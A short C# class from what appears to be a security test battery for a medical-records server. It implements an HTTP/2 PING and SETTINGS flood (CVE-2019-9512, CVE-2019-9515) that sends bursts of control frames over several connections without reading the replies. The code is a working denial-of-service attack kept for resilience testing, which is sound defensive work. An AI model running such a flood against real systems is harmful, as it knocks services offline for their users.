using MedRecords.Battery.Load.Http2;

namespace MedRecords.Battery.Rows.Security.Attacks;

/// <summary>PING and SETTINGS, each of which has to be answered, without reading the answers (CVE-2019-9512, CVE-2019-9515).</summary>
internal sealed class ControlFrames : IAttack
{
    private const int Connections = 8;
    private const int FramesPerRound = 200;

    /// <inheritdoc/>
    public string Name => "PING and SETTINGS flood";

    /// <inheritdoc/>
    public Task RunAsync(Target target, CancellationToken until)
    {
        byte[] pair = [
            .. HostileConnection.FrameOf(FrameType.Ping, FrameFlags.None, 0, new byte[8]),
            .. HostileConnection.FrameOf(FrameType.Settings, FrameFlags.None, 0, []),
        ];
        byte[] burst = [.. Enumerable.Repeat(pair, FramesPerRound / 2).SelectMany(bytes => bytes)];
        return Attackers.RunAsync(Connections, target, until, async (connection, _) =>
        {
            await connection.SendAsync(burst, until);
            target.Hit(FramesPerRound);
        },
        reads: false);
    }
}
